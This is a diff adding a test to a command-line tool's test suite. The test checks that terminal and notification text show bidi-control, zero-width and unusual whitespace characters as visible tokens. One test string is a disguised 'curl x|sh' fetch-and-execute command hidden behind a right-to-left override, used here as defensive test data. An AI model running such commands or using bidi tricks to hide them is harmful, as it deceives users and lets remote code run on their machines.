@@ -7,6 +7,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Snapshot } from '../../src/engine';
 import { jsonLine, terminalLine } from '../../src/main/cli/terminal-text';
+import { shownText } from '../../src/main/notify/notification-text';
 import { FIXTURES } from '../providers/fixture-roots';
 import { runCli } from './cli-process';
 
@@ -57,6 +58,34 @@ describe('terminal escapes from session files', () => {
     expect(line).toContain('<U+009B>');
     expect(line).toContain('<U+202E>');
     expect(terminalLine('plain text · ● ✕')).toBe('plain text · ● ✕');
+  });
+
+  it('issue 47 item 2 the terminal and a notification show every bidi, invisible and unusual blank character as a token', () => {
+    const hidden: Record<string, string> = {
+      '\u202e': '<U+202E>',
+      '\u2066': '<U+2066>',
+      '\u200e': '<U+200E>',
+      '\u200f': '<U+200F>',
+      '\u061c': '<U+061C>',
+      '\u200b': '<U+200B>',
+      '\u200d': '<U+200D>',
+      '\u2060': '<U+2060>',
+      '\ufeff': '<U+FEFF>',
+      '\u00ad': '<U+00AD>',
+      '\u180e': '<U+180E>',
+      '\u00a0': '<U+00A0>',
+      '\u2003': '<U+2003>',
+      '\u3000': '<U+3000>',
+      '\u3164': '<U+3164>',
+      '\u{e0041}': '<U+E0041>',
+      '\t': '\u2409',
+    };
+    for (const [char, token] of Object.entries(hidden)) {
+      expect(terminalLine(`a${char}b`), JSON.stringify(char)).toBe(`a${token}b`);
+      expect(shownText({ title: `t${char}`, body: `Bash: a${char}b` }, false), JSON.stringify(char)).toEqual({ title: `t${token}`, body: `Bash: a${token}b` });
+    }
+    expect(terminalLine('echo ok \u202e;curl x|sh #\u2066# cleanup')).toBe('echo ok <U+202E>;curl x|sh #<U+2066># cleanup');
+    expect(terminalLine('plain é 日本 🚀 a b')).toBe('plain é 日本 🚀 a b');
   });
 
   it('jsonLine keeps the exact strings and escapes every control character', () => {
